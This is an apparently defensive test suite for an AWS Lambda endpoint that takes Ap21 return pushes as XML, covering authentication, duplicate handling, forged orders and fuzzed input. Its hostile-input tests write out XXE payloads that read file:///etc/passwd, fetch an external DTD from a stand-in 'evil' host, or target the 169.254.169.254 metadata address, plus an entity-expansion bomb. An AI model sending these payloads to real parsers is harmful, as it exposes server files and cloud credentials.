import type { APIGatewayProxyEvent, APIGatewayProxyResult, Context } from 'aws-lambda';
import fc from 'fast-check';
import type { SimOrder, SimReturn } from '../../simulators/ap21/simulator';
import { MAX_PUSH_BYTES } from '../../lambdas/services/ap21-push';
import { tableSnapshot } from '../support/fixtures';
import { BELT, SHIRT, startIngest, type IngestHarness } from '../support/harness/relay-with-ap21';

let h: IngestHarness;
let handler: (event: APIGatewayProxyEvent, context: Context) => Promise<APIGatewayProxyResult>;

beforeAll(async () => {
  h = await startIngest();
  // The module the local server (and Lambda) runs, loaded only now that the stack's environment is set.
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  ({ handler } = require('../../lambdas/functions/ap21-returns') as { handler: typeof handler });
});
afterAll(() => h.close());

const pushKey = () => String(h.stack.secrets.ap21.pushApiKey);
const basic = (user: string, password: string) => `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
const validAuth = () => ({ authorization: basic('ap21', pushKey()) });

/** refund-relay's small form: the original order named by its Ap21 id (`OrigOrderId`). */
function pushXml(order: SimOrder, ret: SimReturn, options: { personId?: string; inner?: string } = {}): string {
  const lines = ret.lines
    .map(
      (line) =>
        `<OrderDetail><SkuId>${line.skuId}</SkuId><Quantity>${line.quantity}</Quantity><ReturnReasonId>${line.returnReasonId}</ReturnReasonId></OrderDetail>`,
    )
    .join('');
  return (
    `<?xml version="1.0" encoding="utf-8"?><ReturnOrder><Id>${ret.returnId}</Id><PersonId>${options.personId ?? order.personId}</PersonId>` +
    `<OrigOrderId>${order.orderId}</OrigOrderId><OrderNumber>${ret.orderNumber}</OrderNumber><OrigOrderNum>${order.orderNumber}</OrigOrderNum>` +
    `<OrderDetails>${lines}</OrderDetails>${options.inner ?? ''}</ReturnOrder>`
  );
}

/** What an Ap21-side integration sends: the return exactly as Ap21's `GET …/Returns/{rid}` answers it. */
const ap21Document = (ret: SimReturn, version = 4) => `<?xml version="1.0" encoding="utf-8"?>${h.ap21.returnDocument(ret.returnId, version)}`;

/** Elements no guide documents, where a newer Ap21 version might add them: at the top, in a line, nested. */
const withFutureElements = (xml: string) =>
  xml
    .replace('</ReturnOrder>', '<FutureSummary><Nested a="1"><Deeper>x</Deeper></Nested></FutureSummary><OrigOrderIdx>9</OrigOrderIdx></ReturnOrder>')
    .replace(/<\/ConNote>/g, '</ConNote><FutureLineFlag>true</FutureLineFlag><Discounts><Discount><Value>1.00</Value></Discount></Discounts>');

/** Posts over HTTP with valid credentials unless `headers` overrides them (undefined removes a header). */
function post(body: string | Buffer, headers: Record<string, string | undefined> = {}) {
  const all = Object.entries({ 'content-type': 'text/xml; charset=utf-8', ...validAuth(), ...headers }).filter(
    (entry): entry is [string, string] => entry[1] !== undefined,
  );
  return fetch(`${h.stack.url}/ap21/returns`, { method: 'POST', headers: Object.fromEntries(all), body });
}

async function refundsOf(order: SimOrder) {
  return Object.keys((await h.store.getOrder(`ap21-${order.orderId}`))?.refunds ?? {});
}

describe('POST /ap21/returns', () => {
  it('stores a pushed return, answers 202, and the refund appears; API-key header or Basic auth', async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT, BELT] });
    const shirt = h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -1 }] });
    const belt = h.ap21.addReturn(order.orderId, { lines: [{ skuId: BELT.skuId, quantity: -1 }] });

    const viaBasic = await post(pushXml(order, shirt));
    expect(viaBasic.status).toBe(202);
    expect(await viaBasic.json()).toEqual({ received: true, duplicate: false, return_id: shirt.returnId, status: 'processed' });
    const viaKey = await post(pushXml(order, belt), { authorization: undefined, 'x-api-key': pushKey() });
    expect(viaKey.status).toBe(202);
    expect((await refundsOf(order)).sort()).toEqual([`ap21-${shirt.returnId}`, `ap21-${belt.returnId}`].sort());
  });

  it("turns Ap21's own <ReturnOrder> (full shape, unknown elements too) into exactly one refund, finding the order by OrigOrderNum", async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT, BELT] });
    const ret = h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -1 }] });
    const document = withFutureElements(ap21Document(ret));
    expect(document).toContain('<OrderDateTime>');
    expect(document).not.toContain('<OrigOrderId>');
    // Lookups of the original order by its number (the intake also asks once for the exchange order the return names).
    const originalLookups = () => h.ap21.calls('GET /OrderNumbers/{n}').filter((call) => call.path.endsWith(`/${order.orderNumber}`)).length;
    const byNumber = originalLookups();

    const answer = await post(document);
    expect(answer.status).toBe(202);
    expect(await answer.json()).toEqual({ received: true, duplicate: false, return_id: ret.returnId, status: 'processed' });
    expect(originalLookups()).toBe(byNumber + 1);
    expect(await refundsOf(order)).toEqual([`ap21-${ret.returnId}`]);
    const refund = (await h.store.getOrder(`ap21-${order.orderId}`))!.refunds[`ap21-${ret.returnId}`]!;
    expect(Object.values(refund.lines)).toEqual([1]);

    // The same return again, as version 2.0 writes it, or in the small form: still one refund.
    expect(await (await post(ap21Document(ret, 2))).json()).toMatchObject({ duplicate: true, status: 'processed' });
    expect((await post(pushXml(order, ret))).status).toBe(202);
    expect(await refundsOf(order)).toEqual([`ap21-${ret.returnId}`]);
  });

  it('answers 400 naming OrigOrderNum for a version 1.0 document, which names no original order', async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT] });
    const ret = h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -1 }] });
    const answer = await post(ap21Document(ret, 1));
    expect(answer.status).toBe(400);
    expect(((await answer.json()) as { error: { message: string } }).error.message).toContain('<OrigOrderNum>');
  });

  it("sets aside, without a refund, a push whose order number is another person's in Ap21", async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT] });
    const ret = h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -1 }] });
    const other = h.ap21.addOrder({ lines: [SHIRT] });
    const forged = ap21Document(ret).replace(`<PersonId>${order.personId}</PersonId>`, `<PersonId>${other.personId}</PersonId>`);
    expect(await (await post(forged)).json()).toMatchObject({ status: 'failed' });
    expect(await refundsOf(order)).toEqual([]);
    const isolated = (await h.store.listIsolations('ap21')).find((isolation) => isolation.subject === `return:${ret.returnId}`);
    expect(isolated?.reason).toContain(`not the pushed person ${other.personId}'s`);
  });

  it('answers a duplicate push 202 without a second refund or another call to Ap21', async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT] });
    const ret = h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -2 }] });
    expect((await post(pushXml(order, ret))).status).toBe(202);
    const calls = h.ap21.calls().length;
    const again = await post(pushXml(order, ret));
    expect(again.status).toBe(202);
    expect(await again.json()).toMatchObject({ duplicate: true, status: 'processed' });
    expect(h.ap21.calls()).toHaveLength(calls);
    expect(await refundsOf(order)).toEqual([`ap21-${ret.returnId}`]);
  });

  it('keeps a push it could not process (Ap21 down) and the poller processes it later', async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT] });
    const ret = h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -1 }] });
    h.ap21.injectFailures(1, { status: 503 });
    const answer = await post(pushXml(order, ret));
    expect(answer.status).toBe(202);
    expect(await answer.json()).toMatchObject({ duplicate: false, status: 'pending' });
    expect(await refundsOf(order)).toEqual([]);

    // Older than a minute (the poller's clock runs days ahead), so the poller takes it over.
    h.newEra();
    await h.poller({ settings: { watermark: 'push-retry' } }).run();
    expect(await refundsOf(order)).toEqual([`ap21-${ret.returnId}`]);
    expect(await h.store.findPendingInbound('ap21', new Date(h.clock()).toISOString(), 10)).toEqual([]);
    expect(await (await post(pushXml(order, ret))).json()).toMatchObject({ duplicate: true, status: 'processed' });
  });

  it('gives up on a push for a return Ap21 never heard of, for an operator, without a refund', async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT] });
    const invented = { ...h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -1 }] }), returnId: '99999999' };
    expect(await (await post(pushXml(order, invented))).json()).toMatchObject({ status: 'pending' });
    h.newEra();
    await h.poller({ settings: { watermark: 'push-unknown' } }).run();
    const kept = (await tableSnapshot(h.stack.dynamo.endpoint)).find((item) => (item as { SK: string }).SK === 'INBOX#ap21#push-99999999');
    expect(kept).toMatchObject({ status: 'failed', note: expect.stringContaining('404') });
    expect((await refundsOf(order)).filter((id) => id === 'ap21-99999999')).toEqual([]);
  });

  it('refuses, with 409 and no write, the same return pushed again for another person', async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT] });
    const ret = h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -1 }] });
    expect((await post(pushXml(order, ret))).status).toBe(202);
    const before = await tableSnapshot(h.stack.dynamo.endpoint);
    const other = await post(pushXml(order, ret, { personId: '777' }));
    expect(other.status).toBe(409);
    expect(await tableSnapshot(h.stack.dynamo.endpoint)).toEqual(before);
  });

  it('refuses hostile requests over HTTP with a clear 4xx', async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT] });
    const ret = h.ap21.addReturn(order.orderId, { lines: [{ skuId: SHIRT.skuId, quantity: -1 }] });
    const valid = pushXml(order, ret);
    const cases: [string, Promise<Response>, number, string][] = [
      ['no credentials', post(valid, { authorization: undefined }), 401, 'missing_credentials'],
      ['a wrong key', post(valid, { authorization: basic('ap21', 'guess-guess-guess-guess') }), 401, 'invalid_credentials'],
      ['JSON', post('{"Id":1}', { 'content-type': 'application/json' }), 415, 'unsupported_media_type'],
      ['a DTD', post(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${valid.replace(/^<\?xml[^>]*>/, '')}`), 400, 'malformed_xml'],
      ['a 1 MB body', post(`${valid}${' '.repeat(1 << 20)}`), 413, 'payload_too_large'],
      ['a positive quantity', post(valid.replace('<Quantity>-1</Quantity>', '<Quantity>1</Quantity>')), 422, 'invalid_request'],
      [
        'no original order',
        post(valid.replace(/<OrigOrderId>\d+<\/OrigOrderId>/, '').replace(/<OrigOrderNum>[^<]*<\/OrigOrderNum>/, '')),
        400,
        'invalid_return',
      ],
      ['two SkuIds in a line', post(valid.replace('<SkuId>', '<SkuId>1</SkuId><SkuId>')), 400, 'invalid_return'],
      ['a Quantity holding elements', post(valid.replace('<Quantity>-1</Quantity>', '<Quantity><Value>-1</Value></Quantity>')), 400, 'invalid_return'],
      [
        'an order number too long for Ap21',
        post(valid.replace(/<OrigOrderId>\d+<\/OrigOrderId>/, '').replace(/<OrigOrderNum>[^<]*</, `<OrigOrderNum>${'W'.repeat(31)}<`)),
        422,
        'invalid_request',
      ],
    ];
    const before = await tableSnapshot(h.stack.dynamo.endpoint);
    for (const [what, response, status, code] of cases) {
      const answer = await response;
      expect({ what, status: answer.status, code: ((await answer.json()) as { error: { code: string } }).error.code }).toEqual({ what, status, code });
    }
    expect(await tableSnapshot(h.stack.dynamo.endpoint)).toEqual(before);
  });
});

describe('POST /ap21/returns under generated hostile input', () => {
  const context = { functionName: 'ap21-returns', awsRequestId: 'fuzz', getRemainingTimeInMillis: () => 10_000 } as unknown as Context;
  let valid: string;
  let before: unknown[];

  beforeAll(async () => {
    const order = h.ap21.addOrder({ lines: [SHIRT, BELT] });
    // A return nobody pushed yet: any request let through would write its inbox record.
    valid = pushXml(
      order,
      h.ap21.addReturn(order.orderId, {
        lines: [
          { skuId: SHIRT.skuId, quantity: -1 },
          { skuId: BELT.skuId, quantity: -1 },
        ],
      }),
    );
    before = await tableSnapshot(h.stack.dynamo.endpoint);
  });

  const statuses = new Map<number, number>();
  async function invoke(body: string | Uint8Array, headers: Record<string, string>, sourceIp = '127.0.0.1'): Promise<number> {
    const bytes = Buffer.from(body);
    const result = await handler(
      {
        resource: '/ap21/returns',
        path: '/ap21/returns',
        httpMethod: 'POST',
        headers,
        multiValueHeaders: {},
        queryStringParameters: null,
        multiValueQueryStringParameters: null,
        pathParameters: null,
        stageVariables: null,
        body: bytes.length ? bytes.toString('base64') : null,
        isBase64Encoded: bytes.length > 0,
        requestContext: { requestId: 'fuzz', identity: { sourceIp } } as APIGatewayProxyEvent['requestContext'],
      },
      context,
    );
    statuses.set(result.statusCode, (statuses.get(result.statusCode) ?? 0) + 1);
    return result.statusCode;
  }
  const xmlHeaders = () => ({ 'content-type': 'application/xml', ...validAuth() });
  const refused = (status: number) => status >= 400 && status < 500;
  const runs = (numRuns: number) => ({ numRuns, seed: 21 });

  it('answers random bytes, wrong media types and DTDs with 4xx', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 3000 }), async (bytes) => expect(refused(await invoke(bytes, xmlHeaders()))).toBe(true)),
      runs(800),
    );
    const notXml = fc.oneof(
      fc.constantFrom(
        '',
        'application/json',
        'text/plain',
        'application/xml-dtd',
        'text/html',
        'multipart/form-data',
        'text/xml; charset=iso-8859-1',
        'application/xml;charset=utf-16',
        'xml',
      ),
      fc.string({ maxLength: 40 }).filter((type) => !/^\s*(text|application)\/xml\s*(;.*)?$/i.test(type)),
    );
    await fc.assert(
      fc.asyncProperty(notXml, async (type) => expect(await invoke(valid, { ...validAuth(), 'content-type': type })).toBe(415)),
      runs(400),
    );
    const dtd = fc.oneof(
      fc.constant('<!DOCTYPE ReturnOrder [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'),
      fc.constant('<!DOCTYPE ReturnOrder SYSTEM "http://169.254.169.254/latest/meta-data/">'),
      fc.stringMatching(/^[a-z]{1,8}$/).map((name) => `<!DOCTYPE ReturnOrder [<!ENTITY ${name} SYSTEM "file:///etc/passwd">]>`),
      fc.stringMatching(/^[a-z]{1,8}$/).map((name) => `<!DOCTYPE ReturnOrder [<!ENTITY % ${name} SYSTEM "http://evil/x.dtd"> %${name};]>`),
    );
    await fc.assert(
      fc.asyncProperty(dtd, fc.boolean(), async (declaration, useEntity) => {
        const body = valid.replace('?>', `?>${declaration}`).replace('<OrderNumber>', useEntity ? '<OrderNumber>&b;' : '<OrderNumber>');
        expect(await invoke(body, xmlHeaders())).toBe(400);
      }),
      runs(400),
    );
  });

  it('answers oversized bodies with 413, and bad numbers, missing or repeated elements refund-relay needs with 400 or 422', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: MAX_PUSH_BYTES + 1, max: MAX_PUSH_BYTES + 300_000 }), async (size) =>
        expect(await invoke(valid.padEnd(size, ' '), xmlHeaders())).toBe(413),
      ),
      runs(60),
    );
    const badQuantity = fc.oneof(
      fc.integer({ min: 0, max: 1_000_000 }).map(String),
      fc.integer({ min: -10_000_000_000, max: -100_001 }).map(String),
      fc.constantFrom('-0', '-1.5', '-1.0', '-1e3', '1e3', 'NaN', '-Infinity', '-', '--1', '- 1', '0x10', '-1,000', '-١', '', '-01'),
      fc.string({ maxLength: 12 }).filter((text) => !/^\s*-[1-9]\d{0,5}\s*$/.test(text)),
    );
    await fc.assert(
      fc.asyncProperty(badQuantity, async (quantity) =>
        expect(refused(await invoke(valid.replace('<Quantity>-1</Quantity>', `<Quantity>${quantity.replace(/[<&]/g, '')}</Quantity>`), xmlHeaders()))).toBe(
          true,
        ),
      ),
      runs(600),
    );
    const badId = fc.oneof(
      fc.string({ maxLength: 30 }).filter((text) => !/^\s*\d{1,22}\s*$/.test(text)),
      fc.stringMatching(/^\d{23,40}$/),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('Id', 'PersonId', 'OrigOrderId', 'SkuId'), badId, async (element, value) => {
        // An empty OrigOrderId is absent, and the push then names its order by OrigOrderNum.
        fc.pre(element !== 'OrigOrderId' || value.replace(/[<&]/g, '').trim() !== '');
        const body = valid.replace(new RegExp(`<${element}>[^<]*</${element}>`), `<${element}>${value.replace(/[<&]/g, '')}</${element}>`);
        expect(refused(await invoke(body, xmlHeaders()))).toBe(true);
      }),
      runs(400),
    );
    // Ap21's own elements are not the ones refund-relay needs twice, missing, or holding elements.
    const needed = fc.constantFrom('Id', 'PersonId', 'OrderDetails', 'SkuId', 'Quantity');
    await fc.assert(
      fc.asyncProperty(needed, fc.boolean(), async (element, repeat) => {
        const match = new RegExp(`<${element}>(?:(?!</${element}>)[\\s\\S])*</${element}>`).exec(valid)![0];
        expect(await invoke(valid.replace(match, repeat ? `${match}${match}` : ''), xmlHeaders())).toBe(400);
      }),
      runs(200),
    );
    for (const element of ['OrigOrderId', 'OrigOrderNum', 'ReturnReasonId']) {
      const match = new RegExp(`<${element}>[^<]*</${element}>`).exec(valid)![0];
      expect(await invoke(valid.replace(match, `${match}${match}`), xmlHeaders())).toBe(400);
    }
  });

  it('answers wrong credentials with 401 and unknown source addresses with 403', async () => {
    const key = pushKey();
    const wrongAuth = fc.oneof(
      fc.constant({}),
      fc
        .string({ maxLength: 60 })
        .filter((guess) => guess !== key)
        .map((guess) => ({ 'x-api-key': guess })),
      fc
        .string({ maxLength: 60 })
        .filter((guess) => guess !== key)
        .map((guess) => ({ authorization: basic('ap21', guess) })),
      fc
        .stringMatching(/^[a-z]{1,10}$/)
        .filter((user) => user !== 'ap21')
        .map((user) => ({ authorization: basic(user, key) })),
      fc.constant({ authorization: basic('ap21', key), 'x-api-key': key }),
      fc.string({ maxLength: 80 }).map((garbage) => ({ authorization: garbage })),
      fc.constant({ authorization: `Bearer ${key}` }),
    );
    await fc.assert(
      fc.asyncProperty(wrongAuth, async (headers) => expect(await invoke(valid, { 'content-type': 'text/xml', ...headers })).toBe(401)),
      runs(600),
    );
    const outside = fc.oneof(
      fc.ipV4().filter((ip) => ip !== '127.0.0.1' && !ip.startsWith('198.51.100.')),
      // Leading zero groups could spell ::1 or an IPv4-mapped allowed address: leave those out.
      fc.ipV6().filter((ip) => !/^(:|0{1,4}:)/.test(ip)),
      fc.constantFrom('', 'localhost', '127.0.0.1.evil', '::ffff:203.0.113.9', '198.51.101.1', '10.0.0.1'),
    );
    await fc.assert(
      fc.asyncProperty(outside, async (sourceIp) => expect(await invoke(valid, xmlHeaders(), sourceIp)).toBe(403)),
      runs(500),
    );
    // The allowlist's CIDR and IPv4-mapped spellings are let through (and then refused for their bad body).
    expect(await invoke('<x/>', xmlHeaders(), '198.51.100.77')).toBe(400);
    expect(await invoke('<x/>', xmlHeaders(), '::ffff:127.0.0.1')).toBe(400);
  });

  it('answered thousands of them without a single 5xx, and wrote nothing', async () => {
    expect([...statuses.keys()].filter((status) => status >= 500)).toEqual([]);
    expect([...statuses.values()].reduce((sum, count) => sum + count, 0)).toBeGreaterThan(3500);
    expect(await tableSnapshot(h.stack.dynamo.endpoint)).toEqual(before);
  });
});
